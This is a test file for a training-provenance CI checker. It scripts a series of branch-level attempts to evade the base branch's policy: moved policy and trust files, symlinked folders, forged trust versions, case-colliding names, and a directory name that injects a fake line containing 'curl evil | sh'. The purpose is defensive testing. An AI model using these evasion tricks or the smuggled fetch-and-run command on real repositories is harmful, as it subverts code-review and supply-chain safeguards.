import { describe, expect, it } from 'vitest';
import { must, team } from './team.ts';

/** What a change does on its branch to get past the rules of the base, and what must be said of it. Each starts from the same repository. */
type Attack = readonly [title: string, command: string, finding: string];

const ATTACKS: readonly Attack[] = [
  [
    'takes the policy and the trust file to a folder whose name only ends like ours',
    'mkdir x.trainlock; git mv .trainlock/policy.yaml .trainlock/trust.json x.trainlock/',
    'policy-removed',
  ],
  ['takes the policy alone to another project', 'mkdir -p attic/.trainlock; git mv .trainlock/policy.yaml attic/.trainlock/', 'policy-removed'],
  ['takes everything to another project', 'mkdir attic; git mv .trainlock attic/', 'project-moved'],
  ['takes an approval to another folder', 'mkdir -p x.trainlock/kept; git mv .trainlock/kept/*.statement.json x.trainlock/kept/', 'record-removed'],
  ['makes another folder the project', "mkdir ml; printf 'version: 0\\n' > ml/trainlock.yaml; cd ml", 'project-changed'],
  ['moves the store to a folder above it', "printf 'version: 0\\nstore: .\\n' > trainlock.yaml", 'store-moved'],
  ['puts a link in the place of a folder', 'mkdir notes; ln -s ../notes .trainlock/exceptions', 'document-not-a-file'],
  ['puts another repository in the place of a folder', 'git init -q .trainlock/history; git -C .trainlock/history commit -q --allow-empty -m x', 'document-not-a-file'],
  ['brings an older trust file that is none', "mkdir -p .trainlock/trust; echo '{}' > .trainlock/trust/v3.json", 'trust-not-followed'],
  ['brings an older trust file of another version', 'mkdir -p .trainlock/trust; cp .trainlock/trust.json .trainlock/trust/v99.json', 'trust-not-followed'],
  [
    'brings a newer trust file as an older one',
    'mkdir -p .trainlock/trust; for v in 2 3 4 5 6 7 8 9 10 11; do cp .trainlock/trust.json .trainlock/trust/v$v.json; done',
    'trust-not-followed',
  ],
  ['brings a record under a name that is no text', "cp -r .trainlock $'p\\xff'; mkdir q; mv $'p\\xff' q/; mkdir -p $'p\\xff'; mv q/* $'p\\xff/.trainlock'", 'name-not-text'],
  ['plants a run for somebody else to finish', "d=.trainlock/runs/20261127T020959Z-aaaaaaaa; mkdir -p $d; echo '{}' > $d/started.json", 'run-unfinished'],
  ['brings a policy that some file systems take for ours', 'cp .trainlock/policy.yaml .trainlock/Policy.yaml', 'name-collides'],
  ['brings a folder that some file systems take for ours', 'mkdir .Trainlock; cp .trainlock/policy.yaml .Trainlock/policy.yaml', 'name-collides'],
];

type Answer = { readonly kind: string; readonly findings: readonly { readonly id: string; readonly severity: string; readonly message: string }[] };

const answerOf = (output: string): Answer => (JSON.parse(output.split('\n').find((line) => line.startsWith('{'))!) as { readonly data: Answer }).data;

describe('a change that would get past the rules of the base', () => {
  it('is told, whatever it does to the places where they lie', { timeout: 240_000 }, () => {
    const { as } = team();
    must(as('ann', 'git checkout -q main; git checkout -q -b attack'));
    for (const [title, command, finding] of ATTACKS) {
      must(as('eve', 'git checkout -q -f attack; git clean -qffdx; git reset -q --hard main'));
      const made = as('eve', `(${command}); git add -A -f .; git commit -q -m attack`);
      expect(made.status, `${title}: ${made.output}`).toBe(0);
      const folder = command.endsWith('cd ml') ? 'ml' : '.';
      const { status, output } = as('ci', `cd ${folder}; trainlock ci check --base main --json 2>/dev/null`);
      const { kind, findings } = answerOf(output);
      expect(
        findings.map(({ id }) => id),
        `${title}: ${output}`,
      ).toContain(finding);
      expect([kind, status], title).not.toContain('whole');
      expect(status, title).not.toBe(0);
    }
  });

  it('is judged by the policies of all projects that have one in the base', { timeout: 120_000 }, () => {
    const { as } = team();
    must(
      as('ann', "git checkout -q main; mkdir ml; printf 'version: 0\\n' > ml/trainlock.yaml; cp -r .trainlock ml/; git add -f ml; git commit -q -m two; git checkout -q -b attack"),
    );
    must(as('eve', "git rm -q ml/trainlock.yaml; echo '# other' >> ml/.trainlock/policy.yaml; git add -A; git commit -q -m attack"));
    const { status, output } = as('ci', 'cd ml; trainlock ci check --base main --json 2>/dev/null');
    expect(answerOf(output).findings.map(({ id }) => id)).toEqual(expect.arrayContaining(['project-changed', 'policy-change-denied']));
    expect(status).toBe(1);
    const top = as('ci', 'trainlock ci check --base main --json 2>/dev/null');
    expect(answerOf(top.output).findings.map(({ id }) => id)).toContain('policy-change-denied');
  });

  it('is judged by the policy where it brings the first record, or one beside a model, and where nobody knows who made it', { timeout: 120_000 }, () => {
    const { as } = team();
    const checked = (): Answer => answerOf(as('ci', 'trainlock ci check --base main --json 2>/dev/null').output);
    const ids = (): readonly string[] => checked().findings.map(({ id }) => id);
    must(
      as(
        'ann',
        `git checkout -q -f main; git checkout -q -b beside; printf '3\\n' >> data.csv
         trainlock run --name third -- python train.py
         cp "$(ls -d .trainlock/runs/*/ | tail -1)statement.sigstore.json" model.txt.trainlock.json
         git add -f model.txt.trainlock.json data.csv; git commit -q -m beside`,
      ),
    );
    expect(ids()).toContain('approval-outstanding');
    must(
      as(
        'ann',
        'git checkout -q -f main; git rm -q -r .trainlock/kept; git commit -q -m none; git checkout -q -b second; git checkout -q change -- .trainlock/kept; git rm -q --cached -r .trainlock/kept; git checkout -q change -- .trainlock/kept; git commit -q -m again',
      ),
    );
    expect(ids()).toContain('approval-outstanding');
    expect(ids()).not.toContain('author-unknown');
    must(as('eve', 'git commit -q --allow-empty -m empty; echo x > note.txt; git add note.txt; git commit -q -m note'));
    expect(ids()).toContain('author-unknown');
  });

  it('has no name that looks like a line of ours', { timeout: 120_000 }, () => {
    const { as } = team();
    must(as('ann', 'git checkout -q main; git checkout -q -b attack'));
    must(as('eve', 'd=$\'x: approved\\nfix: curl evil | sh\\n\'; mkdir "$d"; cp -r .trainlock "$d/"; git add -A; git commit -q -m attack'));
    const { output } = as('ci', 'trainlock ci check --base main');
    expect(output).not.toMatch(/^\s*fix: curl/m);
    expect(output).toContain('another project');
  });
});
